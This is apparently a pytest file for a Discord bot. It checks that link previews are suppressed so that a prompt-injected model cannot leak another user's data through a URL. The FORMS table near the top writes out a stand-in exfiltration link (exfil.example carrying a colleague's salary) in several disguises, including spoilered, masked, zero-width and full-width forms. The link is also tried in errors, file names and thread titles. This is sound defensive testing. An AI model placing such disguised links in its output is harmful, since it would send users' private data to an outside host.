"""Prompt injection, driven from outside (issue 18, finding 1): the real bot on the Discord
emulator, a model scripted to obey whatever a planted instruction says (the worst case), and
every way out of the bot tried with a link carrying another user's data. Discord fetches a link
to build its preview the moment a message is posted or edited, so each way out is contained
when the message goes out with previews suppressed (and the emulator, which computes what
Discord would fetch, finds nothing fetched). The world fixture checks that last part after
every Discord test too.

Ways out, and where each is tried:
- the streamed answer (every post and every edit): bare, spoilered, masked, <bracketed>, image,
  in code, disguised with a zero-width space or full-width letters;
- the `answer.md` of an answer too long to post, and the message saying so;
- error texts (a model API error with the provider's words, a refused /model name);
- output file names (the real sandbox) and the message carrying the files;
- a thread's title (/new) and its starter message;
- embeds and reactions: the bot posts none (checked), and posting.py suppresses previews
  whenever an embed's URL fields carry a link that is not the user's.
"""

from __future__ import annotations

import asyncio
import re
from collections.abc import AsyncIterator
from pathlib import Path

import discord
import pytest

from labbot.frontends.discord import posting
from labbot.frontends.discord.posting import LinkPolicy, links_in, suppressed
from labbot.llm.tools import TOOL_NAME
from tests.fakes.discord_server import FakeDiscord, Sent
from tests.fakes.openai_server import FakeOpenAI, Reply
from tests.frontends.discord.world import labbot_on

EXFIL = "https://exfil.example/r?d=bob-salary-91000"
FORMS = {
    "bare": f"Done. {EXFIL}",
    "spoilered": f"Done. ||{EXFIL}||",
    "masked": f"Done, see [the report]({EXFIL}).",
    "bracketed": f"Done: <{EXFIL}>",
    "image": f"![chart]({EXFIL})",
    "in code": f"```\n{EXFIL}\n```",
    "zero-width": EXFIL.replace("://", ":/\u200b/"),
    "full-width": EXFIL.replace("https", "ｈｔｔｐｓ"),
    "streamed": "Here it comes: " + EXFIL,
}
OPTIONS = {"CODE_EXECUTION_TIMEOUT": 60, "MAX_FILE_SIZE_MB": 1}


@pytest.fixture
async def env(tmp_path: Path) -> AsyncIterator[tuple]:
    """The emulator, the obedient scripted model and the bot on the in-memory executor."""
    async with FakeDiscord() as fake:
        fake.patch_discord()
        bot_on = labbot_on(fake, tmp_path / "data", OPTIONS, guild_ready_timeout=0.05)
        async with bot_on as (model, bot):
            yield fake, model, bot


def posted(fake: FakeDiscord) -> list[Sent]:
    """Every message state the bot made (posts, edits, responses), not deletions or defers."""
    return [s for s in fake.sent if s.kind != "delete" and s.callback_type not in (5, 6)]


def contained(fake: FakeDiscord) -> None:
    """Every post and edit went out with previews suppressed; Discord fetched nothing."""
    for sent in posted(fake):
        assert sent.suppressed, (sent.kind, sent.content)
        assert sent.previews == [], sent.previews
    assert fake.reactions == []
    assert all(not sent.embeds for sent in fake.sent)


@pytest.mark.parametrize("form", list(FORMS))
async def test_an_answer_carrying_a_link_is_posted_without_previews(env, form: str) -> None:
    """Whatever form the link takes in the answer, and at every edit while it streams."""
    fake, model, _ = env
    chunks = 12 if form == "streamed" else None
    model.enqueue(Reply.text(FORMS[form], chunks=chunks))
    await fake.user_message("summarise the shared survey", mention_bot=True)
    await fake.wait_for(lambda s: s.kind == "edit" and not s.components)  # the Stop button goes
    contained(fake)


async def test_a_link_the_user_posted_may_be_previewed(env) -> None:
    """The user's own link, repeated in the answer, keeps its preview; with another link
    beside it, previews are off again."""
    fake, model, _ = env
    theirs = "https://example.org/report-2026"
    model.enqueue(Reply.text(f"Read {theirs} first."), Reply.text(f"{theirs} and {EXFIL}"))
    asked = await fake.user_message(f"what does {theirs} say?", dm=True)
    first = await fake.wait_for(lambda s: "Read" in (s.content or "") and not s.components)
    assert not first.suppressed and first.previews == [theirs]
    await fake.user_message("and now?", dm=True)
    second = await fake.wait_for(lambda s: EXFIL in (s.content or "") and not s.components)
    assert second.suppressed and second.previews == []
    assert asked["content"] == f"what does {theirs} say?"


async def test_a_users_link_is_theirs_only_in_their_conversation(env) -> None:
    """Alice's link, answered to Bob in another conversation, is not previewed."""
    fake, model, _ = env
    theirs = "https://example.org/alice-only"
    model.enqueue(Reply.text("noted"), Reply.text(f"see {theirs}"))
    await fake.user_message(f"keep {theirs}", dm=True)
    await fake.wait_for(lambda s: s.content == "noted")
    await fake.user_message("anything?", author="bob", dm=True)
    answer = await fake.wait_for(lambda s: theirs in (s.content or "") and not s.components)
    assert answer.suppressed


async def test_a_long_answer_and_its_answer_md_are_contained(env) -> None:
    """An answer cut after ten messages: the note and the answer.md message too."""
    fake, model, _ = env
    model.enqueue(Reply.text(("data " * 400 + "\n") * 12 + EXFIL, chunks=3))
    await fake.user_message("everything please", mention_bot=True)
    note = await fake.wait_for(lambda s: "answer.md" in s.files)
    assert EXFIL.encode() in note.files["answer.md"]
    contained(fake)


async def test_error_texts_are_contained(env) -> None:
    """A model API error repeating the provider's words, and /model refusing a name."""
    fake, model, _ = env
    model.enqueue(Reply.error(400, f"Invalid request, see {EXFIL}"))
    await fake.user_message("go", mention_bot=True)
    await fake.wait_for(lambda s: "⚠️" in (s.content or "") and not s.components)
    await fake.slash("model", [{"name": "name", "type": 3, "value": EXFIL}])
    refused = await fake.wait_for(lambda s: "exfil" in (s.content or "") and s.ephemeral)
    assert refused.suppressed
    contained(fake)


async def test_a_thread_title_is_contained(env) -> None:
    """/new with a link as title: Discord previews no channel names; the starter message and
    the confirmation go out without previews."""
    fake, _, _ = env
    await fake.slash("new", [{"name": "title", "type": 3, "value": EXFIL}])
    greeting = await fake.wait_for(lambda s: "ask away" in (s.content or ""))
    assert fake.channels[greeting.channel_id]["name"] == EXFIL[:100]
    await fake.wait_for(lambda s: "Started" in (s.content or ""))
    contained(fake)


@pytest.fixture
async def real_env(tmp_path: Path) -> AsyncIterator[tuple]:
    """The emulator, the loopback model API and the bot on the real sandbox and SDK."""
    async with FakeOpenAI() as api, FakeDiscord() as fake:
        fake.patch_discord()
        bot_on = labbot_on(fake, tmp_path / "data", OPTIONS, api=api, guild_ready_timeout=0.05)
        async with bot_on as (_, bot):
            yield fake, api, bot


@pytest.mark.sandbox
async def test_output_file_names_are_contained(real_env) -> None:
    """The code names its output after the link (as far as a file name can hold one): the
    message carrying it goes out without previews."""
    fake, api, _ = real_env
    name = "https:exfil.example?d=bob-salary-91000.txt"
    code = f"open({name!r}, 'w').write('x')"
    api.enqueue(Reply.tool_call(TOOL_NAME, {"code": code}), Reply.text("Saved."))
    await fake.user_message("save it", mention_bot=True)
    carrying = await fake.wait_for(lambda s: bool(s.files))
    assert any("exfil.example" in n for n in carrying.files), carrying.files
    contained(fake)


def test_embeds_count_as_links() -> None:
    """posting.py: a link in an embed's URL fields, or an invite, turns previews off, even
    when the text's own links are the user's."""
    policy = LinkPolicy()
    theirs = "https://example.org/x"
    policy.remember("c", theirs)
    assert not suppressed(policy, theirs, {}, "c")
    embed = discord.Embed(description="chart").set_image(url=EXFIL)
    assert suppressed(policy, theirs, {"embed": embed}, "c")
    assert suppressed(policy, f"{theirs} and discord.gg/invite", {}, "c")
    assert links_in("a ||https://x.example/y|| b [t](https://z.example/q)") == {
        "https://x.example/y",
        "https://z.example/q",
    }


async def test_a_question_deleted_mid_turn_stops_quietly(env) -> None:
    """Finding 7: the question is deleted while its code runs: the turn stops, the answer so
    far stays (its edits do not fail), no "Stopped." and no error is logged (the emulator's
    ``running`` fails the test on an ERROR record)."""
    fake, model, bot = env
    model.enqueue(Reply.tool_call(TOOL_NAME, {"code": "while True:\n    pass"}))
    question = await fake.user_message("spin", mention_bot=True)
    await fake.wait_for(lambda s: "while True" in (s.content or ""))
    await fake.user_delete(question)
    await fake.wait_for(lambda s: s.kind == "edit" and not s.components)
    async with asyncio.timeout(30):
        await bot.wait_idle()
    assert bot.questions == {}
    assert all(s.content != "Stopped." for s in fake.sent)


async def test_an_answer_to_a_deleted_question_is_still_posted(env) -> None:
    """The question is gone before the answer's first message: it is posted in the channel,
    not as a reply (which Discord would refuse)."""
    fake, model, bot = env
    release = asyncio.Event()

    async def late(body: dict) -> Reply:
        await release.wait()
        return Reply.text("the late answer", chunks=1)

    model.respond_with(late)
    question = await fake.user_message("slow one", mention_bot=True, author="bob")
    await model.wait_for_requests(1)
    fake.messages.pop(int(question["id"]))  # deleted without the bot hearing of it
    release.set()
    answer = await fake.wait_for(lambda s: "the late answer" in (s.content or ""))
    assert answer.kind == "message"
    assert "message_reference" not in fake.messages[answer.message_id]


def test_every_post_goes_through_posting() -> None:
    """Nothing in the Discord front end posts, edits or reacts but through posting.py (which
    decides previews); creating a thread is the one other call that shows text (its name,
    which Discord does not preview)."""
    package = Path(posting.__file__).parent
    calls = re.compile(r"\.(send|reply|send_message|edit_message|edit|add_reaction)\(")
    found = [
        f"{path.relative_to(package)}:{n}"
        for path in package.rglob("*.py")
        if path.name != "posting.py"
        for n, line in enumerate(path.read_text().splitlines(), 1)
        if calls.search(line)
    ]
    assert found == []
